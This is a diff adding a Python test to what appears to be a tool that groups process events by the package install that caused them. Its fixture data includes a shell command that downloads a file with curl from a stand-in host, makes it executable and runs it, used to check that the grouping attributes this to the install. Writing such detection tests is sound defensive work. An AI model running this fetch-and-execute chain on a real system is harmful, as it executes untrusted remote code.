@@ -241,3 +241,15 @@ def test_other_languages_have_projects_too(install: str, use: str) -> None:
     path = "/home/kim/app/target/debug/invoicer" if "target" in use else ""
     rows = [SHELL, row(11, 10, install, 1), {**row(12, 10, use, 9), "process_path": path}]
     assert members(rows) == [[install, use]]
+
+
+def test_what_the_first_use_fetches_belongs_to_the_install_too() -> None:
+    use = row(12, 10, "python3 nightly.py", 9)
+    shell = row(
+        13, 12, "sh -c curl -o /home/kim/h https://files.contoso.example/h; chmod +x h; h", 10
+    )
+    fetch = row(14, 13, "curl -o /home/kim/h https://files.contoso.example/h", 10)
+    runnable, program = row(15, 13, "chmod +x /home/kim/h", 11), row(16, 13, "/home/kim/h", 11)
+    rows = [SHELL, REQUIREMENTS, use, shell, fetch, runnable, program]
+    assert members(rows) == [[event["process"] for event in rows[1:]]]
+    assert members(rows[::-1]) == members(rows)
